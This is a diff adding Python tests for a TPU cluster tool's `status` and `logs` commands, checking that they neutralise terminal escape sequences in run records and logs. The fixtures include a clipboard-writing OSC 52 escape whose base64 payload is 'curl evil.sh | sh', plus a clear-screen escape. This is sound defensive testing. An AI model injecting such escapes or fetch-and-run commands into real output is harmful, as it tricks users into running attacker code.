@@ -1,0 +1,72 @@
+"""Text in a bucket is written by whoever can write the bucket (and by the job): a run's reason,
+a host's bootstrap message, the job's log. Through the installed tpuctl, `status` and `logs` show
+the terminal escapes in it as ``?`` -- a clear-screen (ESC [2J) and an OSC 52 clipboard write
+(ESC ]52;c;BASE64 BEL) reach neither the terminal nor a pipe -- and `logs --raw` gives the bytes.
+Before, both reached stdout raw (click strips only CSI sequences, and only off a terminal)."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+
+from provision.cloud.storage import local_bucket
+from provision.runs import store as runs
+from tests.conftest import REPO, TPUCTL_BIN, run_tpuctl_process
+
+CLEAR = "\x1b[2J\x1b[H"
+CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"      # "curl evil.sh | sh" onto the clipboard
+SHOWN_CLEAR = "?[2J?[H"
+SHOWN_CLIPBOARD = "?]52;c;Y3VybCBldmlsLnNoIHwgc2g=?"
+
+
+def _hostile_run() -> runs.RunRecord:
+    """A run of cluster lab whose record, log, events and bootstrap status carry escapes, as a
+    bucket writer (or the job, for its log) would leave them."""
+    rec = runs.RunRecord(run_id=runs.new_run_id("lab"), cluster="lab", provider="local", project="local",
+                         zone="us-central1-b", bucket="gs://tpuctl-local", model_dir="gs://tpuctl-local/m",
+                         num_train_steps=10, save_checkpoints_steps=5, status="gave_up", attempts=1,
+                         reason=f"gave up{CLEAR}: all good{CLIPBOARD}")
+    bucket = local_bucket("tpuctl-local")
+    store = runs.RunStore(bucket, rec.run_id)
+    store.save(rec)
+    runs.remember(rec)
+    bucket.write_bytes(f"{store.attempt_prefix(1)}/log-0.txt",
+                       f"step 1\n{CLEAR}step 2\ttab\r\n{CLIPBOARD}done\n".encode())
+    store.event("note", message=f"see{CLIPBOARD}")
+    bucket.write_bytes("tpuctl/clusters/lab/bootstrap/host-0.json", json.dumps({
+        "role": "host", "worker": "0", "state": "failed", "step": "pip", "message": f"pip failed{CLEAR}",
+        "log_tail": [f"last{CLIPBOARD}"]}).encode())
+    return rec
+
+
+def _tpuctl_bytes(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run([str(TPUCTL_BIN), *args, "--provider", "local"], cwd=REPO, env=dict(os.environ),
+                          capture_output=True, timeout=120, check=False)
+
+
+def test_status_shows_escapes_in_run_reasons_and_bootstrap_messages_as_question_marks():
+    assert run_tpuctl_process("up", "lab", "-a", "v2-8", "--provider", "local").code == 0
+    rec = _hostile_run()
+    res = _tpuctl_bytes("status")
+    assert res.returncode == 0, res.stderr
+    out = res.stdout.decode()
+    assert "\x1b" not in out and "\x07" not in out and "\x1b" not in res.stderr.decode()
+    lines = out.splitlines()
+    assert (f"lab: host bootstrap failed: host-0 at pip: pip failed{SHOWN_CLEAR} (its log: tpuctl-bootstrap.log "
+            f"on that host; last line: last{SHOWN_CLIPBOARD})") in lines
+    assert f"{rec.run_id} stopped: gave up{SHOWN_CLEAR}: all good{SHOWN_CLIPBOARD}" in lines
+    # --json keeps the text as written, escaped the JSON way
+    doc = json.loads(_tpuctl_bytes("status", "--json").stdout)
+    assert doc["clusters"][0]["run"]["reason"] == rec.reason
+
+
+def test_logs_show_escapes_as_question_marks_and_raw_gives_the_bytes():
+    rec = _hostile_run()
+    res = _tpuctl_bytes("logs", rec.run_id)
+    assert res.returncode == 0, res.stderr
+    assert res.stdout.decode() == f"step 1\n{SHOWN_CLEAR}step 2\ttab\n{SHOWN_CLIPBOARD}done\n"
+    events = _tpuctl_bytes("logs", rec.run_id, "--events").stdout.decode()
+    assert events.endswith(f" note message=see{SHOWN_CLIPBOARD}\n") and "\x1b" not in events
+    raw = _tpuctl_bytes("logs", rec.run_id, "--raw")
+    assert raw.returncode == 0 and raw.stdout == f"step 1\n{CLEAR}step 2\ttab\r\n{CLIPBOARD}done\n".encode()
